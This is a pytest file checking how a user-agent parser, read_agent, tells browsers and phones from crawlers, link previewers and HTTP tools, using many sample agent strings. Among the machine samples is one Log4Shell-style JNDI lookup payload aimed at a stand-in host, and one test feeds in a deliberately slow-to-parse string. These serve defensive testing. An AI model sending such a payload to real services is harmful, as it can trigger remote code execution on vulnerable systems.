"""People, crawlers, previewers and tools, told by their agents."""

import pytest

from xengo_desktop.server.visits.bots import AGENT_LIMIT, read_agent

WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
APPLE = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
IPHONE = f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) {APPLE}"

PEOPLE = {
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT} Chrome/120.0.0.0 Safari/537.36": "desktop",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {APPLE} Version/17.4 Safari/605.1.15": "desktop",
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0": "desktop",
    f"{IPHONE} Version/17.5 Mobile/15E148 Safari/604.1": "mobile",
    f"Mozilla/5.0 (Linux; Android 14; Pixel 8) {WEBKIT} Chrome/125.0.0.0 Mobile Safari/537.36": "mobile",
    f"Mozilla/5.0 (Linux; Android 10; CUBOT_X18_Plus) {WEBKIT} Chrome/100.0 Mobile Safari/537.36": "mobile",
    f"Mozilla/5.0 (Linux; Android 13; SM-X700) {WEBKIT} Chrome/125.0.0.0 Safari/537.36": "tablet",
    f"Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) {APPLE} Version/17.5 Mobile/15E148": "tablet",
}

IN_APP = {
    f"{IPHONE} Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.34.107;FBBV/546;FBDV/iPhone14,5]": "mobile",
    f"{IPHONE} Mobile/15E148 Instagram 334.0.4.32.98 (iPhone14,5; iOS 17_5; en_US; en)": "mobile",
}

MACHINES = {
    "": "empty-agent",
    "   ": "empty-agent",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": "crawler",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)": "crawler",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)": "crawler",
    f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} HeadlessChrome/120.0.0.0 Safari/537.36": "crawler",
    "Mozilla/5.0": "crawler",
    "SomethingHomemade/1.0": "crawler",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)": "preview",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)": "preview",
    "Twitterbot/1.0": "preview",
    "WhatsApp/2.23.20.0 A": "preview",
    "TelegramBot (like TwitterBot)": "preview",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)": "preview",
    "Mozilla/5.0 (Windows NT 6.1) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com": "preview",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)": "preview",
    "curl/8.7.1": "tool",
    "python-requests/2.32.3": "tool",
    "python-httpx/0.28.1": "tool",
    "Python-urllib/3.11": "tool",
    "Go-http-client/2.0": "tool",
    "Wget/1.21.4": "tool",
    "okhttp/4.12.0": "tool",
    "node": "tool",
    "Java/17.0.2": "tool",
}


@pytest.mark.parametrize(("agent", "device"), {**PEOPLE, **IN_APP}.items())
def test_people_are_people_and_carry_a_device(agent, device):
    assert (read_agent(agent).reason, read_agent(agent).device) == ("", device)


@pytest.mark.parametrize(("agent", "reason"), MACHINES.items())
def test_machines_are_told_with_the_reason(agent, reason):
    assert (read_agent(agent).reason, read_agent(agent).device) == (reason, "")


def test_a_hostile_agent_is_judged_in_no_time():
    assert read_agent(("Mozilla/5.0 (" + "((" * 400)[:AGENT_LIMIT]).reason in {"", "crawler"}


WINDOWS = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT}"
ANDROID = "Mozilla/5.0 (Linux; Android"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"
LINUX = "Mozilla/5.0 (X11; Linux x86_64)"

TAKEN_FOR_MACHINES_ONCE = (
    f"{ANDROID} 13; Spider 8) {WEBKIT} Chrome/124.0 Safari/537.36",
    f"{ANDROID} 7.0; M bot 51) {WEBKIT} Chrome/81.0 Mobile Safari/537.36",
    f"{IPHONE} Version/26.6 Mobile/15E148 Snapchat/14.25.0.48 (like Safari/8624.5.1.10.3, panda)",
    f"{IPHONE} Mobile/15E148 Viber/25.1.0",
    f"{ANDROID} 10; TLA001; wv) {WEBKIT} Version/4.0 Chrome/80.0 Safari/537.36 SogouMSE,SogouMobile",
    f"{ANDROID} 8.0.0; SM-G950N; wv) {WEBKIT} Version/4.0 Chrome/71.0 Safari/537.36;KAKAOTALK 1908210",
    f"{IPHONE} Version/26.6 Mobile/15E148 Safari/604.1 Brave",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727)",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; WOW64; Trident/6.0)",
    "Mozilla/5.0 (CrKey armv7l 1.4.15250) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/31.0 Safari/537.36",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80/37.6334; U; en) Presto/2.12.423 Version/12.16",
    f"{IPHONE} Mobile/15E148 musical_ly_25.1.1 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en",
    f"{IPHONE} Mobile/15E148 [LinkedInApp]/9.29.8962",
)

TAKEN_FOR_PEOPLE_ONCE = (
    "Mozilla/5.0 (compatible; Detectify)",
    "Mozilla/5.0 Keydrop",
    "Mozilla/5.0 (Mixnode) AppleWebKit/537.36 (KHTML, like Gecko)",
    f"{LINUX} AppleWebKit/537.36 (KHTML, like Gecko; Google Search Console) Chrome/41.0 Safari/537.36",
    f"{LINUX} {WEBKIT} Chrome/27.0.1453 Safari/537.36 (compatible; Google-HotelAdsVerifier/2.0)",
    f"{WINDOWS} Chrome/132.0.0.0 Safari/537.36 SecurityHeaders",
    f"{LINUX} {WEBKIT} Chrome/49.0.2623.75 Safari/537.36 Google Favicon",
    f"{MAC} {WEBKIT} Chrome/109.0.0.0 Safari/537.36 CloudflareObservatory/1.0",
    "${jndi:ldap://x.useragent.example}",
    "Hello, world",
    "Brandwatch/1.0 (varies)",
    "keycdn-tools/perf",
)


@pytest.mark.parametrize("agent", TAKEN_FOR_MACHINES_ONCE)
def test_a_person_with_an_unusual_agent_is_a_person(agent):
    assert read_agent(agent).reason == ""


@pytest.mark.parametrize("agent", TAKEN_FOR_PEOPLE_ONCE)
def test_a_machine_without_a_telling_name_is_a_machine(agent):
    assert read_agent(agent).reason


def test_every_example_of_the_packaged_list_is_a_machine():
    import crawleruseragents

    examples = {text for entry in crawleruseragents.CRAWLER_USER_AGENTS_DATA for text in entry["instances"]}
    people = [text for text in examples if not read_agent(text[:AGENT_LIMIT]).reason]
    assert len(people) < len(examples) / 200, people
